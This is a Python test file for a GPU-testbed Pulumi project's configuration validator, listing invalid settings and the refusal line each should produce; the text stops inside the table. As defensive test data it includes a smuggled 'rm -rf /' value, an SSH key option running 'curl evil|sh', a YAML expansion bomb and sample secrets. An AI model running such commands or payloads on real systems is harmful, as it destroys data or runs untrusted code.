"""Every bad setting refused clearly: one table, one line per problem.

Each row is (config, the key its line names, a fragment of that line). `settings.load` runs on
every row (fast); a sample goes through the CLI, and the Pulumi program itself, to show the
same lines, exit 2 and nothing registered. What the refusals cost is benchmarks/refusals.py's."""

from __future__ import annotations

import base64
import hashlib
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

from core import instance_types, settings
from core.settings import PROJECT
from stacks import offline

ROOT = Path(__file__).resolve().parents[2]
ADMIN = "81.2.69.0/28"  # RFC 5737 is refused by a deployment; this is a public range


def cfg(values: dict) -> dict:
    """Namespaced config: keys with a ':' as given, others in the project's namespace."""
    merged = {"adminCidr": ADMIN, **values}
    return {
        k[1:] if k.startswith("!") else k if ":" in k else f"{PROJECT}:{k}": v  # "!key": a key with no namespace
        for k, v in merged.items()
        if v is not None
    }


def _openssh(public_key) -> str:
    return public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()


def _rsa_line(bits: int) -> str:
    """An ssh-rsa line with a modulus of exactly `bits` bits (the parser checks size, not primality)."""

    def field(b: bytes) -> bytes:
        return struct.pack(">I", len(b)) + b

    def mpint(n: int) -> bytes:
        return field(n.to_bytes((n.bit_length() + 8) // 8, "big"))

    blob = field(b"ssh-rsa") + mpint(65537) + mpint((1 << (bits - 1)) | 1)
    return "ssh-rsa " + base64.b64encode(blob).decode()


ED25519 = _openssh(ed25519.Ed25519PrivateKey.from_private_bytes(b"\x01" * 32).public_key())
ECDSA = _openssh(ec.derive_private_key(7, ec.SECP256R1()).public_key())
ED25519_BLOB = ED25519.split()[1]
PRIVATE_BODY = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"  # must never be echoed
PRIVATE_KEYS = [
    f"-----BEGIN OPENSSH PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END OPENSSH PRIVATE KEY-----\n",
    f"-----BEGIN RSA PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END RSA PRIVATE KEY-----",
    f"-----BEGIN PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END PRIVATE KEY-----",
    f"-----BEGIN EC PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END EC PRIVATE KEY-----",
    f"PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 1\n{PRIVATE_BODY}",
    f"ssh-ed25519 {ED25519_BLOB} -----BEGIN OPENSSH PRIVATE KEY----- {PRIVATE_BODY}",
]


def _body(key, form) -> str:
    pem = key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()).decode()
    return "".join(line for line in pem.splitlines() if not line.startswith("-----"))


# Private keys without their headers: the base64 bodies alone, whole, cut and split
SCALAR = int.from_bytes(hashlib.sha256(b"issue 22").digest()) >> 1  # a private scalar with no zero runs
EC_BODY = _body(ec.derive_private_key(SCALAR, ec.SECP256R1()), serialization.PrivateFormat.TraditionalOpenSSL)
EC_PKCS8_BODY = _body(ec.derive_private_key(9, ec.SECP384R1()), serialization.PrivateFormat.PKCS8)
ED25519_PKCS8_BODY = _body(
    ed25519.Ed25519PrivateKey.from_private_bytes(b"\x02" * 32), serialization.PrivateFormat.PKCS8
)
OPENSSH_BODY = _body(ed25519.Ed25519PrivateKey.from_private_bytes(b"\x03" * 32), serialization.PrivateFormat.OpenSSH)
RSA_BODY_HEAD = "MIIEowIBAAKCAQEAw" + "x7Qb3kP9zR2mV5tY8nC1aF4" * 2  # PKCS#1: SEQUENCE, INTEGER 0, the modulus
AWS_SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # AWS's documentation example
RANDOM_SECRET = "q8Zr2XkV9mT4bN7cWf1Ls6Hd3Gy0Pj5A"  # 32 random base64 characters
GITHUB_TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
SLACK_TOKEN = "xoxb-1234567890-9876543210-AbCdEfGhIjKlMnOpQrStUvWx"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"
SECRETS = (
    PRIVATE_BODY,
    "AKIAIOSFODNN7EXAMPLE",
    EC_BODY[:20],
    EC_PKCS8_BODY[:20],
    ED25519_PKCS8_BODY[:20],
    OPENSSH_BODY[:20],
    RSA_BODY_HEAD[:20],
    AWS_SECRET_KEY[:20],
    RANDOM_SECRET[:20],
    GITHUB_TOKEN[4:24],
    SLACK_TOKEN[5:25],
    JWT[:20],
)

LAUGHS = "config:\n  a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"  {n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
)  # ~400 bytes that expand to 9^9 strings

VERSION_SETTINGS = {
    # key: (tested, a release outside the tested series, a format mistake)
    "kubernetesVersion": ("1.34.7", "1.35.0", "v1.34.7"),
    "flannelVersion": ("v0.27.4", "v0.28.0", "0.27.4"),
    "nvidiaContainerToolkitVersion": ("1.18.1", "1.17.8", "1.18"),
    "devicePluginVersion": ("0.17.4", "0.18.0", "v0.17.4"),
    "certManagerVersion": ("v1.19.6", "v1.18.2", "1.19.6"),
    "slinkyVersion": ("1.0.5", "1.1.0", "1.0"),
    "kubePrometheusStackVersion": ("80.14.4", "79.0.0", "80.14"),
    "dcgmExporterVersion": ("4.7.1", "4.6.0", "4.7.1-rc1"),
    "kedaVersion": ("2.20.2", "2.19.0", "2.20.2.0"),
    "trainingOperatorVersion": ("v1.9.4", "v1.8.2", "1.9.4"),
    "kueueVersion": ("0.19.2", "0.18.0", "v0.19.2"),
}


def _other_digit(version: str, base: int) -> str:
    """`version` with its first digit in another script (Python's `\\d` accepts them all)."""
    i = next(i for i, ch in enumerate(version) if ch.isdigit())
    return version[:i] + chr(base + int(version[i])) + version[i + 1 :]


def _version_rows() -> list[tuple[dict, str, str]]:
    rows = []
    for key, (tested, outside, mistake) in VERSION_SETTINGS.items():
        leading_v = tested.startswith("v")
        fullwidth = _other_digit(tested, 0xFF10)
        rows += [
            ({key: outside}, key, "e.g. " + tested),
            ({key: mistake}, key, "MAJOR.MINOR.PATCH"),
            ({key: _other_digit(tested, 0x660)}, key, "ASCII digits"),  # Arabic-Indic
            ({key: fullwidth}, key, settings.show(fullwidth)),
            ({key: tested + "-beta"}, key, "MAJOR.MINOR.PATCH"),
            ({key: tested.replace(".", ".0", 1)}, key, "MAJOR.MINOR.PATCH"),  # a leading zero
            ({key: "latest"}, key, "e.g. " + tested),
        ]
        if leading_v:
            rows.append(({key: tested.lstrip("v")}, key, "leading v"))
    return rows


ROWS: list[tuple[dict, str, str]] = [
    # --- region and availability zone
    ({"region": "useast1"}, "region", "commercial AWS partition"),
    ({"region": "useast-1"}, "region", "did you mean us-east-1?"),
    ({"region": "US-EAST-1"}, "region", "commercial AWS partition"),
    ({"region": "us-gov-west-1"}, "region", "commercial AWS partition"),
    ({"region": "cn-north-1"}, "region", "commercial AWS partition"),
    ({"region": "us-east-\u0661"}, "region", '"us-east-\\u0661"'),
    ({"region": "us-east-1\n\x1b[31m"}, "region", '"us-east-1\\n\\x1b[31m"'),
    ({"region": ""}, "region", "commercial AWS partition"),
    ({"availabilityZone": "us-east-1"}, "availabilityZone", "a zone of region us-east-1"),
    ({"availabilityZone": "eu-west-1a"}, "availabilityZone", "a zone of region us-east-1"),
    ({"availabilityZone": "us-east-1z"}, "availabilityZone", "us-east-1a, us-east-1b"),
    ({"availabilityZone": "us-east-1g"}, "availabilityZone", "us-east-1f,"),
    ({"availabilityZone": "use1-az1"}, "availabilityZone", "a zone of region us-east-1"),
    ({"availabilityZone": "US-EAST-1A"}, "availabilityZone", "a zone of region"),
    ({"availabilityZone": "us-east-1aa"}, "availabilityZone", "a zone of region"),
    ({"region": "eu-west-1", "availabilityZone": "eu-west-1d"}, "availabilityZone", "eu-west-1c,"),
    ({"region": "us-east-2", "availabilityZone": "us-east-2d"}, "availabilityZone", "us-east-2a"),
    ({"region": "ap-south-1", "availabilityZone": "ap-south-11"}, "availabilityZone", "ap-south-1 and one letter"),
    # --- adminCidr and allowOpenIngress
    ({"adminCidr": None}, "adminCidr", "missing; required"),
    ({"adminCidr": ""}, "adminCidr", "CIDR"),
    ({"adminCidr": "203.0.113.7"}, "adminCidr", "CIDR"),
    ({"adminCidr": "203.0.113.7/33"}, "adminCidr", "CIDR"),
    ({"adminCidr": "81.2.69.1/28"}, "adminCidr", "no host bits"),
    ({"adminCidr": "::/0"}, "adminCidr", "IPv4 only"),
    ({"adminCidr": "2001:db8::/64"}, "adminCidr", "IPv4 only"),
    ({"adminCidr": "0.0.0.0/0"}, "adminCidr", "allowOpenIngress"),
    ({"adminCidr": "0.0.0.0/1"}, "adminCidr", "2,147,483,648 addresses"),
    ({"adminCidr": "128.0.0.0/1"}, "adminCidr", "allowOpenIngress"),
    ({"adminCidr": "81.0.0.0/8"}, "adminCidr", "wider than /16"),
    ({"adminCidr": "81.2.0.0/15"}, "adminCidr", "wider than /16"),
    ({"adminCidr": "10.0.0.0/24"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "192.168.1.0/24"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "127.0.0.1/32"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "100.64.1.0/24"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "169.254.169.254/32"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "224.0.0.0/24"}, "adminCidr", "not an internet address range"),
    # issue 31: allowOpenIngress widened the kind too; 192.0.0.0/24 passed as global on Python 3.11
    ({"adminCidr": "192.0.0.0/24"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "198.18.0.0/16"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "240.0.0.0/16"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "10.0.0.0/8", "allowOpenIngress": "true"}, "adminCidr", "widens the range allowed, not the kind"),
    ({"adminCidr": "192.168.0.0/16", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "127.0.0.0/8", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "224.0.0.0/4", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "240.0.0.0/4", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "0.0.0.0/8", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "192.0.0.0/24", "allowOpenIngress": "true"}, "adminCidr", "not an internet address range"),
    ({"adminCidr": "\u0668\u0661.2.69.0/28"}, "adminCidr", "CIDR"),
    ({"adminCidr": "81.2.69.0/28\n0.0.0.0/0"}, "adminCidr", "\\n"),
    ({"adminCidr": "81.2.69.0/ 28"}, "adminCidr", "CIDR"),
    ({"adminCidr": "081.2.69.0/28"}, "adminCidr", "CIDR"),
    ({"allowOpenIngress": "yes"}, "allowOpenIngress", "true or false"),
    ({"allowOpenIngress": "1"}, "allowOpenIngress", "true or false"),
    ({"allowOpenIngress": ""}, "allowOpenIngress", "true or false"),
    # --- vpcCidr
    ({"vpcCidr": "8.8.0.0/16"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "10.244.0.0/16"}, "vpcCidr", "overlaps the pod network (Flannel) 10.244.0.0/16"),
    ({"vpcCidr": "10.244.5.0/24"}, "vpcCidr", "overlaps the pod network"),
    ({"vpcCidr": "10.96.0.0/16"}, "vpcCidr", "overlaps the service network 10.96.0.0/12"),
    ({"vpcCidr": "10.100.0.0/16"}, "vpcCidr", "overlaps the service network"),
    ({"vpcCidr": "10.111.0.0/24"}, "vpcCidr", "overlaps the service network"),
    ({"vpcCidr": "10.0.0.0/8"}, "vpcCidr", "from /16 to /24"),
    ({"vpcCidr": "10.0.0.0/25"}, "vpcCidr", "from /16 to /24"),
    ({"vpcCidr": "169.254.0.0/16"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "100.64.0.0/16"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "127.0.0.0/16"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "10.0.0.1/16"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "fd00::/64"}, "vpcCidr", "RFC 1918"),
    ({"vpcCidr": "10.0.0.0"}, "vpcCidr", "RFC 1918"),
    # --- amiId
    ({"amiId": "ubuntu"}, "amiId", "AMI id"),
    ({"amiId": "ami-123"}, "amiId", "AMI id"),
    ({"amiId": "ami-0123456789abcdef"}, "amiId", "AMI id"),  # 16 digits: ids have 8 or 17
    ({"amiId": "ami-0123456789ABCDEF0"}, "amiId", "AMI id"),
    ({"amiId": "ami-\u0660123456789abcdef0"}, "amiId", "AMI id"),
    # --- instance types (core/instance_types.py)
    ({"workerInstanceType": "m5.large"}, "workerInstanceType", "has no GPU"),
    ({"workerInstanceType": "p3.2xlarge"}, "workerInstanceType", "Tesla V100 (Volta)"),
    ({"workerInstanceType": "p3.8xlarge"}, "workerInstanceType", "Turing and later only"),
    ({"workerInstanceType": "p2.xlarge"}, "workerInstanceType", "(Kepler)"),
    ({"workerInstanceType": "g3s.xlarge"}, "workerInstanceType", "(Maxwell)"),
    ({"workerInstanceType": "g4ad.xlarge"}, "workerInstanceType", "AMD Radeon Pro V520"),
    ({"workerInstanceType": "g4ad.2xlarge"}, "workerInstanceType", "NVIDIA driver"),
    ({"workerInstanceType": "g5g.xlarge"}, "workerInstanceType", "is arm64"),
    ({"workerInstanceType": "g4dn.12xlarge"}, "workerInstanceType", "has 4 GPUs"),
    ({"workerInstanceType": "g4dn.metal"}, "workerInstanceType", "has 8 GPUs"),
    ({"workerInstanceType": "g5.12xlarge"}, "workerInstanceType", "exactly one"),
    ({"workerInstanceType": "g6.48xlarge"}, "workerInstanceType", "has 8 GPUs"),
    ({"workerInstanceType": "p4d.24xlarge"}, "workerInstanceType", "has 8 GPUs"),
    ({"workerInstanceType": "p5.48xlarge"}, "workerInstanceType", "has 8 GPUs"),
    ({"workerInstanceType": "g4dn.3xlarge"}, "workerInstanceType", "not in the instance catalogue"),
    ({"workerInstanceType": "g4dn.xlarg"}, "workerInstanceType", "did you mean g4dn.xlarge?"),
    ({"workerInstanceType": "G4DN.XLARGE"}, "workerInstanceType", "g4dn.xlarge, g4dn.2xlarge"),
    ({"workerInstanceType": "g7.xlarge"}, "workerInstanceType", "not in the instance catalogue"),
    ({"workerInstanceType": ""}, "workerInstanceType", "GPU worker type from core/instance_types.py"),
    ({"workerInstanceType": "g4dn.xlarge\u200b"}, "workerInstanceType", '"g4dn.xlarge\\u200b" is not in'),
    ({"controlInstanceType": "t3.small"}, "controlInstanceType", "2 vCPU and 2 GiB"),
    ({"controlInstanceType": "t3.micro"}, "controlInstanceType", "at least 2 vCPU and 4 GiB"),
    ({"controlInstanceType": "t4g.medium"}, "controlInstanceType", "is arm64"),
    ({"controlInstanceType": "m6g.large"}, "controlInstanceType", "Ubuntu 24.04 x86_64"),
    ({"controlInstanceType": "g4dn.xlarge"}, "controlInstanceType", "is a GPU type"),
    ({"controlInstanceType": "t3.nano"}, "controlInstanceType", "not in the instance catalogue"),
    ({"controlInstanceType": "t3.mediun"}, "controlInstanceType", "did you mean t3.medium?"),
    ({"controlInstanceType": "t3.medium; rm -rf /"}, "controlInstanceType", "t3.medium, t3.large"),
    # --- whole numbers
    ({"workerCount": "0"}, "workerCount", "from 1 to 235"),
    ({"workerCount": "-2"}, "workerCount", "from 1 to"),
    ({"workerCount": "four"}, "workerCount", "a whole number"),
    ({"workerCount": "400"}, "workerCount", "subnet's capacity"),
    ({"workerCount": "9" * 5000}, "workerCount", "(5000 characters)"),
    ({"workerCount": "-" + "9" * 5000}, "workerCount", "from 1 to"),
    ({"workerCount": "1" + "0" * 9}, "workerCount", "from 1 to"),
    ({"workerCount": "\u0664"}, "workerCount", "ASCII digits"),
    ({"workerCount": "\uff14"}, "workerCount", '"\\uff14"'),
    ({"workerCount": "4.0"}, "workerCount", "a whole number"),
    ({"workerCount": "1e2"}, "workerCount", "a whole number"),
    ({"workerCount": "0x4"}, "workerCount", "a whole number"),
    ({"workerCount": "4_0"}, "workerCount", "a whole number"),
    ({"workerCount": "+4"}, "workerCount", "a whole number"),
    ({"workerCount": ""}, "workerCount", "a whole number"),
    ({"workerCount": "4 4"}, "workerCount", "a whole number"),
    ({"controlRootVolumeGb": "8"}, "controlRootVolumeGb", "from 20"),
    ({"controlRootVolumeGb": "16385"}, "controlRootVolumeGb", "to 16384"),
    ({"controlRootVolumeGb": "9" * 400}, "controlRootVolumeGb", "from 20 to 16384"),
    ({"workerRootVolumeGb": "20"}, "workerRootVolumeGb", "from 60"),
    ({"workerRootVolumeGb": "100GB"}, "workerRootVolumeGb", "a whole number"),
    ({"workerRootVolumeGb": "\u0661\u0660\u0660"}, "workerRootVolumeGb", "ASCII digits"),
    ({"kedaMinReplicas": "3", "kedaMaxReplicas": "2"}, "kedaMinReplicas", "maxReplicaCount (2)"),
    ({"kedaMinReplicas": "0"}, "kedaMinReplicas", "from 1"),
    ({"controlPlaneGeneration": "0"}, "controlPlaneGeneration", "an integer from 1 to 1000"),
    ({"controlPlaneGeneration": "1001"}, "controlPlaneGeneration", "an integer from 1 to 1000"),
    ({"controlPlaneGeneration": "two"}, "controlPlaneGeneration", "a whole number in ASCII digits"),
    ({"kedaMinReplicas": "5"}, "kedaMinReplicas", "maxReplicaCount (4)"),
    ({"kedaMinReplicas": "9" * 50}, "kedaMinReplicas", "maxReplicaCount (4)"),
    ({"kedaMinReplicas": "3", "hpcBorrowsAiGpus": "false"}, "kedaMinReplicas", "maxReplicaCount (2)"),
    ({"kedaMaxReplicas": "5"}, "kedaMaxReplicas", "an integer from 1 to 4 (workerCount"),
    ({"kedaMaxReplicas": "3", "hpcBorrowsAiGpus": "false"}, "kedaMaxReplicas", "an integer from 1 to 2 (workerCount"),
    ({"kedaMaxReplicas": "-1"}, "kedaMaxReplicas", "0 (= the GPUs slurmd may hold)"),
    ({"kedaMaxReplicas": "3", "workerCount": "2"}, "kedaMaxReplicas", "an integer from 1 to 2 (workerCount"),
    (
        {"kedaMaxReplicas": "2", "workerCount": "2", "hpcBorrowsAiGpus": "false"},
        "kedaMaxReplicas",
        "from 1 to 1 (workerCount",
    ),
    # without borrowing, slurmd never takes a GPU of AI's share
    ({"kedaMaxReplicas": "4", "hpcBorrowsAiGpus": "false"}, "kedaMaxReplicas", "an integer from 1 to 2 (workerCount"),
    ({"kedaMaxReplicas": "4", "aiGuaranteedGpus": "1", "hpcBorrowsAiGpus": "false"}, "kedaMaxReplicas", "from 1 to 3"),
    ({"aiGuaranteedGpus": "4"}, "aiGuaranteedGpus", "from 0 to workerCount - 1 (3)"),
    ({"aiGuaranteedGpus": "-2"}, "aiGuaranteedGpus", "expected -1 (half) or an integer from 0 to workerCount - 1 (3)"),
    ({"aiGuaranteedGpus": "2", "workerCount": "2"}, "aiGuaranteedGpus", "workerCount - 1 (1)"),
    ({"aiGuaranteedGpus": "two"}, "aiGuaranteedGpus", "a whole number"),
    ({"aiBorrowsHpcGpus": "false", "aiGuaranteedGpus": "0"}, "aiBorrowsHpcGpus", "with an AI share of 0 GPUs"),
    ({"aiBorrowsHpcGpus": "false", "workerCount": "1"}, "aiBorrowsHpcGpus", "with an AI share of 0 GPUs"),
    ({"hpcBorrowsAiGpus": "yes"}, "hpcBorrowsAiGpus", "true or false"),
    ({"aiBorrowsHpcGpus": "no"}, "aiBorrowsHpcGpus", "true or false"),
    ({"aiPreemptsLowerPriority": "1"}, "aiPreemptsLowerPriority", "true or false"),
    ({"kedaCooldownSeconds": "0"}, "kedaCooldownSeconds", "from 1"),
    ({"kedaCooldownSeconds": "86401"}, "kedaCooldownSeconds", "to 86400"),
    ({"kedaCooldownSeconds": "5m"}, "kedaCooldownSeconds", "a whole number"),
    ({"kedaPollingSeconds": "-5"}, "kedaPollingSeconds", "from 1"),
    ({"kedaPollingSeconds": "3601"}, "kedaPollingSeconds", "to 3600"),
    # settings that defeat each other: the warmth window against the scrape step and KEDA's poll
    ({"kedaCooldownSeconds": "5"}, "kedaCooldownSeconds", "shorter than the 30 s scrape interval"),
    ({"kedaCooldownSeconds": "29"}, "kedaCooldownSeconds", "expected at least 30 (the scrape interval 30 s and"),
    ({"kedaCooldownSeconds": "1", "kedaPollingSeconds": "3600"}, "kedaCooldownSeconds", "expected at least 3600"),
    ({"kedaCooldownSeconds": "300", "kedaPollingSeconds": "600"}, "kedaCooldownSeconds", "kedaPollingSeconds (600)"),
    (
        {"kedaCooldownSeconds": "40", "slurmMetricsIntervalSeconds": "60"},
        "kedaCooldownSeconds",
        "shorter than the 60 s scrape interval the query steps by (slurmMetricsIntervalSeconds)",
    ),
    ({"slurmMetricsIntervalSeconds": "4"}, "slurmMetricsIntervalSeconds", "from 5"),
    ({"slurmMetricsIntervalSeconds": "301"}, "slurmMetricsIntervalSeconds", "to 300"),
    # canonical numbers and networks only
    ({"adminCidr": "81.2.69.0/028"}, "adminCidr", "without leading zeros (did you mean 81.2.69.0/28?)"),
    ({"vpcCidr": "10.0.0.0/016"}, "vpcCidr", "did you mean 10.0.0.0/16?"),
    ({"vpcCidr": "10.0.0.0/0016"}, "vpcCidr", "did you mean 10.0.0.0/16?"),
    ({"workerCount": "007"}, "workerCount", "without leading zeros or -0 (did you mean 7?)"),
    ({"workerCount": "08"}, "workerCount", "(did you mean 8?)"),
    ({"kedaMaxReplicas": "00"}, "kedaMaxReplicas", "(did you mean 0?)"),
    ({"aiGuaranteedGpus": "-01"}, "aiGuaranteedGpus", "(did you mean -1?)"),
    ({"kedaMaxReplicas": "-0"}, "kedaMaxReplicas", "(did you mean 0?)"),
    ({"controlRootVolumeGb": "0" * 5000 + "40"}, "controlRootVolumeGb", "(did you mean 40?)"),
    # --- booleans
    ({"spotWorkers": "yes"}, "spotWorkers", "true or false"),
    ({"spotWorkers": "on"}, "spotWorkers", "true or false"),
    ({"spotWorkers": "0"}, "spotWorkers", "true or false"),
    ({"gpuFeatureDiscovery": "enabled"}, "gpuFeatureDiscovery", "true or false"),
    ({"gpuFeatureDiscovery": "tru\u0435"}, "gpuFeatureDiscovery", '"tru\\u0435"'),  # Cyrillic e
    # --- sshPublicKey
    ({"sshPublicKey": "not-a-key"}, "sshPublicKey", "OpenSSH public key"),
    ({"sshPublicKey": _rsa_line(1024)}, "sshPublicKey", "RSA key of 1024 bits"),
    ({"sshPublicKey": _rsa_line(2047)}, "sshPublicKey", "RSA key of 2047 bits"),
    ({"sshPublicKey": _rsa_line(1536) + " me@host"}, "sshPublicKey", "2048 bits or more"),
    ({"sshPublicKey": "ssh-dss AAAAB3NzaC1kc3MAAACBAP"}, "sshPublicKey", "OpenSSH public key"),
    ({"sshPublicKey": "ssh-ed25519 AAAAbroken"}, "sshPublicKey", "not a readable key"),
    ({"sshPublicKey": "ssh-rsa " + ED25519_BLOB}, "sshPublicKey", "does not match its label"),
    ({"sshPublicKey": "ssh-ed25519 " + ED25519_BLOB[:-4]}, "sshPublicKey", "not a readable key"),
    ({"sshPublicKey": ED25519 + "\n" + ECDSA}, "sshPublicKey", "one OpenSSH public key line"),
    ({"sshPublicKey": f'command="curl evil|sh" {ED25519}'}, "sshPublicKey", "one OpenSSH public key line"),
    ({"sshPublicKey": ED25519 + " me\u202e@host"}, "sshPublicKey", "one OpenSSH public key line"),  # bidi
    ({"sshPublicKey": ED25519 + " " + "x" * 3000}, "sshPublicKey", "at most 1600 characters"),
    ({"sshPublicKey": "sk-ssh-ed25519@openssh.com AAAAGnNr"}, "sshPublicKey", "OpenSSH public key"),
    *[({"sshPublicKey": key}, "sshPublicKey", "value hidden: looks like a private key") for key in PRIVATE_KEYS],
    ({"amiId": PRIVATE_KEYS[2]}, "amiId", "value hidden: looks like a private key"),
    ({"nodesetName": "AKIAIOSFODNN7EXAMPLE"}, "nodesetName", "value hidden: looks like an AWS access key"),
    # --- secrets by their shape, without a header, in known and unknown settings and keys
    ({"sshPublicKey": EC_BODY}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": EC_BODY[:60]}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": EC_BODY[:64] + "\n" + EC_BODY[64:]}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": "ssh-ed25519 " + EC_BODY}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": EC_PKCS8_BODY}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": ED25519_PKCS8_BODY}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": "ssh-ed25519 " + ED25519_PKCS8_BODY}, "sshPublicKey", "looks like a private key"),
    ({"sshPublicKey": OPENSSH_BODY[:70]}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"sshPublicKey": "ssh-rsa " + RSA_BODY_HEAD}, "sshPublicKey", "value hidden: looks like a private key"),
    ({"region": AWS_SECRET_KEY}, "region", "value hidden: looks like a secret key or token"),
    ({"amiId": RANDOM_SECRET}, "amiId", "value hidden: looks like a secret key or token"),
    ({"awsSecretAccessKey": AWS_SECRET_KEY}, "awsSecretAccessKey", "value hidden: looks like a secret key or token"),
    ({"nodesetName": GITHUB_TOKEN}, "nodesetName", "value hidden: looks like a GitHub token"),
    ({"slackToken": SLACK_TOKEN}, "slackToken", "value hidden: looks like a Slack token"),
    ({"kubernetesVersion": JWT}, "kubernetesVersion", "value hidden: looks like a JSON Web Token"),
    ({"aws:region": AWS_SECRET_KEY}, "aws:region", "value hidden: looks like a secret key or token"),
    ({"gpu_testbed:workerCount": EC_BODY}, "gpu_testbed:workerCount", "did you mean gpu-testbed:workerCount?"),
    ({GITHUB_TOKEN: "1"}, "(key hidden: looks like a GitHub token)", "is not a setting of gpu-testbed"),
    ({f"gpu-testbd:{AWS_SECRET_KEY}": "1"}, "(key hidden: looks like a secret key or token)", "not read"),
    # --- versions, driver branch and image tag
    *_version_rows(),
    ({"kubernetesVersion": "1.28.3"}, "kubernetesVersion", "1.34.N"),
    ({"kubernetesVersion": "1.34"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
    ({"kubernetesVersion": "1.34.7-1.1"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
    ({"kubernetesVersion": "1.34.99999"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
    ({"nvidiaContainerToolkitVersion": "1.18.0"}, "nvidiaContainerToolkitVersion", "wrong directory"),
    ({"nvidiaDriverBranch": "latest"}, "nvidiaDriverBranch", "tested branch 580"),
    ({"nvidiaDriverBranch": "470"}, "nvidiaDriverBranch", "tested branch 580"),
    ({"nvidiaDriverBranch": "\u0665\u0668\u0660"}, "nvidiaDriverBranch", "tested branch 580"),
    ({"nvidiaDriverBranch": "580-open"}, "nvidiaDriverBranch", "-server-open"),
    ({"slurmImageTag": "25.11-ubuntu24.04"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
    ({"slurmImageTag": "25.05.3-ubuntu24.04"}, "slurmImageTag", "Slinky 1.0 runs"),
    ({"slurmImageTag": "25.11.6-rockylinux9"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
    ({"slurmImageTag": "latest"}, "slurmImageTag", "e.g. 25.11.6-ubuntu24.04"),
    ({"slurmImageTag": "25.11.6-ubuntu24.04@sha256:abc"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
    # the controller's image: by tag and a whole digest, of the tested Python line
    ({"controllerImage": "python:3.12-slim"}, "controllerImage", "python:3.12.N-slim-bookworm@sha256:"),
    ({"controllerImage": "python:3.12.12-slim-bookworm"}, "controllerImage", "by tag and digest"),
    ({"controllerImage": "python:3.12.12-slim-bookworm@sha256:abc"}, "controllerImage", "<64 hex digits>"),
    ({"controllerImage": "python:3.13.1-slim-bookworm@sha256:" + "a" * 64}, "controllerImage", "of 3.12"),
    (
        {"controllerImage": "evil.example/python:3.12.12-slim-bookworm@sha256:" + "a" * 64},
        "controllerImage",
        "Docker Official",
    ),
    # --- nodesetName
    ({"nodesetName": "GPU_nodes"}, "nodesetName", "DNS label"),
    ({"nodesetName": "all"}, "nodesetName", "clashes with the Slurm partition `all`"),
    ({"nodesetName": "default"}, "nodesetName", "PartitionName=DEFAULT"),
    ({"nodesetName": "-gpu"}, "nodesetName", "DNS label"),
    ({"nodesetName": "gpu-"}, "nodesetName", "DNS label"),
    ({"nodesetName": "a" * 33}, "nodesetName", "1-32 characters"),
    ({"nodesetName": ""}, "nodesetName", "DNS label"),
    ({"nodesetName": "gpu nodes"}, "nodesetName", "DNS label"),
    ({"nodesetName": "gp\u00fc"}, "nodesetName", '"gp\\xfc"'),
    # --- keys: unknown, near-miss namespaces, other providers, encrypted and structured values
    ({"workrCount": "3"}, "workrCount", "did you mean workerCount?"),
    ({"workercount": "3"}, "workercount", "did you mean workerCount?"),
    ({"adminCIDR": "81.2.69.0/28"}, "adminCIDR", "did you mean adminCidr?"),
    ({"worker\ncount": "3"}, "worker\\ncount", "is not a setting of gpu-testbed"),
    ({"gpu_testbed:workerCount": "2"}, "gpu_testbed:workerCount", "did you mean gpu-testbed:workerCount?"),
    ({"gputestbed:region": "us-east-2"}, "gputestbed:region", "the project is gpu-testbed"),
    ({"GPU-testbed:workerCount": "2"}, "GPU-testbed:workerCount", "keys start with gpu-testbed:"),
    ({"gpu-testbd:workerCount": "2"}, "gpu-testbd:workerCount", "did you mean gpu-testbed:workerCount?"),
    ({"gpu-tesbed:spotWorker": "true"}, "gpu-tesbed:spotWorker", "did you mean gpu-testbed:spotWorkers?"),
